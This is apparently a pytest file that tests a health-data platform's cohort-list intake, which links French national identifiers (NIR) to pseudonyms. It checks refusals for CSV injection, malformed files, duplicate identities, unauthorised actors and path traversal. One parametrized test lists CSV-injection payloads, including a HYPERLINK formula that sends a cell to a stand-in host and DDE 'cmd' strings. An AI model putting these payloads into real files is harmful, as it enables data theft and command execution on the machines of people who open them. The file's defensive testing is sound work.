"""Attacks on the extract boundary (3/3): the study's own cohort list, linked at intake with the
SNDS (:mod:`pds_kernel.airlock.cohort_intake`: NIR -> BEN_NIR_PSA -> the project's PERSON_ID).
Real CSV files, a real correspondence Parquet file and a real key store."""

from __future__ import annotations

import json

import polars as pl
import pytest

from pds_kernel.airlock import cohort_intake
from pds_kernel.airlock.cohort_intake import NIR_COLUMN, link_list, nir_key, read_cohort
from pds_kernel.errors import InvalidInput, PermissionDenied
from pds_kernel.permissions import SERVICE_COHORT_LINK, SERVICE_EXTRACT_BUILD
from pds_kernel.pseudo import KeyStore, pseudonym


def _nir(i: int) -> str:
    body = f"1{85 + i % 10:02d}{(i % 12) + 1:02d}75{100 + i:03d}{500 + i:03d}"
    return body + nir_key(body)


@pytest.fixture
def ttp(settings):
    """A correspondence of 30 NIRs, two of which (28, 29) belong to the same SNDS person."""
    ids = [f"P{i:016d}" for i in range(30)]
    ids[29] = ids[28]
    directory = settings.paths.ttp
    directory.mkdir(parents=True, exist_ok=True)
    pl.DataFrame({NIR_COLUMN: [_nir(i) for i in range(30)], "BEN_NIR_PSA": ids}).write_parquet(
        directory / cohort_intake.CORRESPONDENCE_FILE)
    KeyStore(settings.paths.keys).create("diab-study", "root")
    return directory


def _link(settings, tmp_path, text: str, actor=SERVICE_COHORT_LINK) -> dict:
    raw = tmp_path / "list.csv"
    raw.write_text(text) if isinstance(text, str) else raw.write_bytes(text)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    return link_list(actor, "diab-study", raw, keys=settings.paths.keys, ttp=settings.paths.ttp,
                     extract=settings.paths.projects / "diab-study" / "extract", out=out)


def test_a_malformed_list_never_quotes_a_nir(settings, ttp, tmp_path):
    """An unclosed quote: polars' error quotes the line, that is, the NIR; the refusal must not."""
    nir = _nir(3)
    with pytest.raises(InvalidInput, match="not a readable CSV file") as refused:
        _link(settings, tmp_path, f"NIR,ARM\n{_nir(1)},a\n\"{nir},b\n")
    assert nir not in str(refused.value) and nir[:13] not in str(refused.value)


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x.example/?\"&A2,\"see\")", "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"])
def test_a_formula_in_a_study_column_is_refused(settings, ttp, tmp_path, cell):
    """CSV injection: the linked list reaches a reviewer (who may open it in a spreadsheet) and
    the workspace. Numbers with a sign (-2.5, +33) stay data."""
    quoted = '"' + cell.replace('"', '""') + '"'
    with pytest.raises(InvalidInput, match="spreadsheet formula"):
        _link(settings, tmp_path, f"NIR,NOTE\n{_nir(1)},ok\n{_nir(2)},{quoted}\n")
    result = _link(settings, tmp_path, f"NIR,SCORE\n{_nir(1)},-2.5\n{_nir(2)},+33\n")
    assert result["report"]["matched"] == 2


@pytest.mark.parametrize("cell, what", [("a\x00b", "control character"), ("x" * 5000, "more than 4096")])
def test_nul_bytes_and_huge_cells_are_refused(settings, ttp, tmp_path, cell, what):
    with pytest.raises(InvalidInput, match=what):
        _link(settings, tmp_path, f"NIR,NOTE\n{_nir(1)},ok\n{_nir(2)},{cell}\n".encode())


def test_a_nir_listed_twice_or_two_nirs_of_one_person_link_nobody(settings, ttp, tmp_path):
    """The same NIR twice (once spaced out, once lower-cased key), and two NIRs the correspondence
    gives to one SNDS person: ambiguous, so none of them gets a PERSON_ID; counted, never named."""
    spaced = " ".join([_nir(5)[:1], _nir(5)[1:3], _nir(5)[3:]])
    text = f"NIR,ARM\n{_nir(5)},a\n{spaced},b\n{_nir(28)},c\n{_nir(29)},d\n{_nir(7)},e\n"
    result = _link(settings, tmp_path, text)
    report = result["report"]
    assert report["duplicates"] == 4 and report["matched"] == 1
    cohort = pl.read_csv(tmp_path / "out" / cohort_intake.COHORT_OUTPUT)
    key = KeyStore(settings.paths.keys).get("diab-study")
    assert cohort["ARM"].to_list() == ["e"]
    assert cohort["PERSON_ID"].to_list() == [pseudonym(key, f"P{7:016d}")]


def test_what_a_list_learns_is_counts_and_its_own_matched_rows_in_pseudonym_order(settings, ttp, tmp_path):
    """A list probing which NIRs the SNDS holds: the report is counts only (no NIR, no position),
    the output has no NIR and is in PERSON_ID order, not the list's order. What it does reveal by
    design: a study column (here ROW) shows which of its rows were linked (residual risk,
    docs/projects-and-extracts.md)."""
    lines = [f"{_nir(i)},{i}" for i in (9, 3, 40, 1, 41)]  # 40, 41: not in the correspondence
    result = _link(settings, tmp_path, "NIR,ROW\n" + "\n".join(lines) + "\n")
    report = json.loads((tmp_path / "out" / cohort_intake.REPORT_OUTPUT).read_text())
    assert set(report) <= {"rows", "matched", "unmatched", "duplicates", "invalid", "match_rate", "in_extract"}
    assert (report["matched"], report["unmatched"]) == (3, 2) and report == result["report"]
    text = (tmp_path / "out" / cohort_intake.COHORT_OUTPUT).read_text()
    assert not any(_nir(i) in text or _nir(i)[:13] in text for i in range(42))
    cohort = pl.read_csv(tmp_path / "out" / cohort_intake.COHORT_OUTPUT)
    assert cohort["PERSON_ID"].to_list() == sorted(cohort["PERSON_ID"].to_list())


@pytest.mark.parametrize("actor", ["root", "alice", SERVICE_EXTRACT_BUILD, "os:mallory"])
def test_only_the_cohort_link_service_links_a_list(settings, ttp, tmp_path, actor):
    """No person (not even an administrator) and no other service links a list by hand with a
    project's key: only the gate's cohort-link service, for an import it accepted."""
    with pytest.raises(PermissionDenied, match="may not link a cohort list"):
        _link(settings, tmp_path, f"NIR,ARM\n{_nir(1)},a\n", actor=actor)
    assert not list((tmp_path / "out").iterdir())


def test_a_list_for_a_project_id_with_a_path_in_it_links_nothing(settings, ttp, tmp_path):
    raw = tmp_path / "list.csv"
    raw.write_text(f"NIR,ARM\n{_nir(1)},a\n")
    (tmp_path / "out").mkdir()
    with pytest.raises(PermissionDenied):
        link_list(SERVICE_COHORT_LINK, "../keys/diab-study", raw, keys=settings.paths.keys,
                  ttp=settings.paths.ttp, extract=tmp_path, out=tmp_path / "out")
    assert not list((tmp_path / "out").iterdir())


def test_a_study_column_that_names_or_holds_nirs_is_refused(tmp_path):
    path = tmp_path / "list.csv"
    path.write_text(f"NIR,CONTACT\n{_nir(1)},{_nir(2)}\n")
    with pytest.raises(InvalidInput, match="shaped like a NIR") as refused:
        read_cohort(path)
    assert _nir(2) not in str(refused.value)
    path.write_text(f"NIR,MOTHER_NIR\n{_nir(1)},x\n")
    with pytest.raises(InvalidInput, match="names a NIR"):
        read_cohort(path)
